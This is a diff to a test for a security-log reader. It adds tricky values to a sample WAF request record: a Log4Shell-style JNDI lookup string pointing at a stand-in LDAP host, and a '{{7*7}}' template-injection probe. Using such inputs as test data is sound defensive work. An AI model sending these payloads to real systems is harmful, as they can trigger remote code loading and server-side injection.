@@ -121,9 +121,11 @@ WAF = {
     "httpRequest": {
         "clientIp": "192.0.2.9",
         "country": "DE",
-        "headers": [{"name": "Host", "value": "shop.example"}, {"name": "User-Agent", "value": "curl/8 (a, b)"}],
+        "headers": [{"name": "Host", "value": "shop.example"}, {"name": "User-Agent", "value": "curl/8 (a, b)"},
+            {"name": "Authorization", "value": "AWS4-HMAC-SHA256 Credential=a, SignedHeaders=b, Signature=c"},
+            {"name": "X-Api-Version", "value": "${jndi:ldap://x/${a}}"}],
         "uri": "/login",
-        "args": "next=%2F&a=b",
+        "args": "next=%2F&a={{7*7}}&b={",
         "httpVersion": "HTTP/2.0",
         "httpMethod": "POST",
         "requestId": "1-65bb-0a",
@@ -190,8 +192,6 @@ RECORDS = {"cloudtrail": event(1), "guardduty": FINDING, "waf": WAF, "route53res
 def test_a_row_of_the_table_gives_what_its_record_gives(source: str, form: str) -> None:
     record = RECORDS[source]
     as_text = {name: json.dumps(record[name]) for name in TEXT.get(source, [])}
-    if (source, form) == ("route53resolver", "JSON"):
-        record = record | {"answers": []}  # all other names are the log's own
     found = read(selected(record | as_text, form=form), "results/0f1e2d3c")
     assert (found.status, found.rejects, found.decoding.lossy_members) == ("read", [], {})
     assert found.decoding.unknown_members == {}
